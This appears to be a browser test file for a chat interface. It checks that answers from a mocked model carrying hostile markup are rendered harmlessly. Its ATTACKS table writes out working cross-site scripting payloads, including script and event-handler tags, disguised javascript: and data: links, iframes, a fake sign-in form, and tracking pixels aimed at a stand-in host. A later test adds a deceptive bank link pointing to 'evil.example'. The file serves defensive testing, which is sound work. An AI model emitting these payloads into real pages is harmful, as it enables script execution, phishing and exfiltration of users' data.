import { afterAll, beforeAll, beforeEach, describe, expect, it } from '@jest/globals';
import type { Page } from 'playwright-core';
import { hasChromium } from './chromium.ts';
import { ask, ends, PageHarness } from './page-harness.ts';

const TIMEOUT_MS = 240_000;
const inChromium = hasChromium ? describe : describe.skip;

/** A host that must never be asked. */
const ELSEWHERE = 'https://elsewhere.invalid';

/** What a model may be made to say by whoever wrote what it read. */
const ATTACKS: Readonly<Record<string, string>> = {
  script: '<script>window.hit = 1</script>',
  'script in a block': '<div>\n\n<script>window.hit = 1</script>\n\n</div>',
  'event handler': '<img src=x onerror="window.hit = 1"><b onmouseover="window.hit = 1" onclick="window.hit = 1">b</b>',
  'event handler without quotes': '<img/src=x/onerror=window.hit=1>',
  'javascript link': '[click](javascript:window.hit=1)',
  'javascript link in disguise':
    '[click](java&#115;cript:window.hit=1) [click](JaVaScRiPt:window.hit=1) [c](\u0001javascript:window.hit=1)',
  'javascript reference': '[click][1]\n\n[1]: javascript:window.hit=1',
  'javascript autolink': '<javascript:window.hit=1>',
  'data link': '[click](data:text/html,<script>window.hit=1</script>)',
  'data link in base64': '[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=)',
  'vbscript and file': '[click](vbscript:x) [click](file:///etc/passwd) [click](blob:null/x)',
  'relative link': '[click](/jobs) [click](//elsewhere.invalid/) [click](#x)',
  iframe: `<iframe src="${ELSEWHERE}/frame"></iframe><iframe srcdoc="<script>parent.hit=1</script>"></iframe>`,
  'object and embed': `<object data="${ELSEWHERE}/o"></object><embed src="${ELSEWHERE}/e">`,
  svg: '<svg onload="window.hit=1"><script>window.hit=1</script><a xlink:href="javascript:window.hit=1"><text>x</text></a></svg>',
  mathml: '<math><maction actiontype="statusline" xlink:href="javascript:window.hit=1">x</maction></math>',
  form: `<form action="${ELSEWHERE}/form"><input name="key"><button>Sign in</button></form>`,
  'style element': `<style>@import url(${ELSEWHERE}/css); body { display: none }</style>`,
  'style attribute': `<p style="position:fixed;inset:0;background:url(${ELSEWHERE}/bg)">covers everything</p>`,
  'link and meta': `<link rel="stylesheet" href="${ELSEWHERE}/l"><meta http-equiv="refresh" content="0;url=${ELSEWHERE}/m"><base href="${ELSEWHERE}/">`,
  'tracking pixel': `![](${ELSEWHERE}/pixel.gif?secret=1) <img src="${ELSEWHERE}/pixel2.gif">`,
  'tracking pixel by reference': `![x][p]\n\n[p]: ${ELSEWHERE}/pixel3.gif`,
  'picture of data': '![x](data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="window.hit=1"/>)',
  'srcset and poster': `<img srcset="${ELSEWHERE}/s 1x"><video poster="${ELSEWHERE}/v" src="${ELSEWHERE}/v2"></video><audio src="${ELSEWHERE}/a">`,
  'clobbered names': '<a id="root"></a><img name="getElementById"><form id="prompt"></form>',
  'formula with a link': '$$\\href{javascript:window.hit=1}{x}$$ $$\\url{javascript:window.hit=1}$$',
  'formula with a picture': `$$\\includegraphics{${ELSEWHERE}/k.png}$$`,
  'formula with HTML': '$$\\htmlData{x=1}{y} \\htmlStyle{position:fixed}{z} \\htmlId{root}{z}$$',
  'formula in brackets with a link':
    '\\(\\href{javascript:window.hit=1}{x}\\)\n\n\\[\n\\url{javascript:window.hit=1}\n\\]',
  'formula that grows': '$$\\def\\a{\\a\\a}\\a$$',
  'language of code': '```"><script>window.hit=1</script>\nx\n```',
  'mermaid diagram':
    '```mermaid\ngraph TD; A["<img src=x onerror=window.hit=1>"]; click A "javascript:window.hit=1"\n```',
  'autolinked address': `${ELSEWHERE}/auto www.elsewhere.invalid`,
  footnote: '[^1]\n\n[^1]: <script>window.hit=1</script> [x](javascript:window.hit=1)',
  comment: '<!-- --><script>window.hit=1</script><!-- -->',
  'markup that is not closed': '<img src="x" onerror="window.hit=1" <script',
};

inChromium('the page, with a model that attacks its reader', () => {
  let harness: PageHarness;
  let page: Page;
  beforeAll(async () => {
    harness = await PageHarness.start();
  }, TIMEOUT_MS);
  afterAll(() => harness?.[Symbol.asyncDispose](), TIMEOUT_MS);
  beforeEach(async () => {
    await harness.newContext();
    page = await harness.open();
    page.on('dialog', (dialog) => {
      harness.complaints.push(`dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
  });

  /** What in the answers could run, load, lead away or cover. */
  async function dangers(): Promise<string[]> {
    return page.evaluate(`(() => {
      const found = [];
      for (const element of document.querySelectorAll('article[aria-label="Answer"] *')) {
        const tag = element.localName;
        if (/^(script|iframe|frame|object|embed|form|input|img|video|audio|source|link|meta|base|style|template|foreignobject)$/.test(tag)) found.push(tag);
        for (const { name, value } of element.attributes) {
          if (/^on/.test(name) || name === 'srcdoc' || name === 'srcset' || name === 'poster') found.push(name + '=' + value);
          if (/^(href|src|xlink:href|action|formaction|data)$/.test(name) && !/^(https?:|mailto:)/.test(value)) found.push(name + '=' + value);
        }
        if (getComputedStyle(element).position === 'fixed') found.push('fixed ' + tag);
      }
      for (const link of document.querySelectorAll('article[aria-label="Answer"] a')) {
        if (link.target !== '_blank' || !link.rel.includes('noopener')) found.push('link ' + link.outerHTML);
      }
      if (window.hit !== undefined) found.push('a script ran');
      return found;
    })()`);
  }

  it.each(Object.keys(ATTACKS))(
    'runs nothing, asks nobody and shows it: %s',
    async (name) => {
      const attack = ATTACKS[name] ?? '';
      // cut anywhere, as a stream does it
      const half = Math.floor(attack.length / 2);
      harness.model.answer(['Look:\n\n', attack.slice(0, half), attack.slice(half), '\n\nThe end.'], { to: name });
      await ask(page, name);
      await ends(page);
      await page.locator('.markdown').last().getByText('The end.').waitFor();
      if (attack.includes('$$') || attack.includes('\\(')) await page.locator('.katex, .katex-error').first().waitFor();
      expect(await dangers()).toEqual([]);
      for (const link of await page.locator('.markdown a').all()) await link.hover();
      await page.reload();
      await page.locator('.markdown').last().getByText('The end.').waitFor();
      expect(await dangers()).toEqual([]);
      expect(harness.requests.filter((request) => new URL(request).origin !== harness.url)).toEqual([]);
      expect(harness.complaints).toEqual([]);
    },
    TIMEOUT_MS,
  );

  it(
    'says where a link leads whose words name another host, and shows what turns the direction of text',
    async () => {
      const answer =
        '[https://bank.example](https://evil.example/x) and `if (admin\u202E)` and [fine](https://fine.example)';
      harness.model.answer([answer], { to: 'Links?' });
      await ask(page, 'Links?');
      await ends(page);
      const shown = page.locator('.markdown').last();
      await shown.locator('a').first().waitFor();
      const text = await shown.textContent();
      expect(text).toBe('https://bank.example (evil.example) and if (admin[U+202E]) and fine');
    },
    TIMEOUT_MS,
  );
});
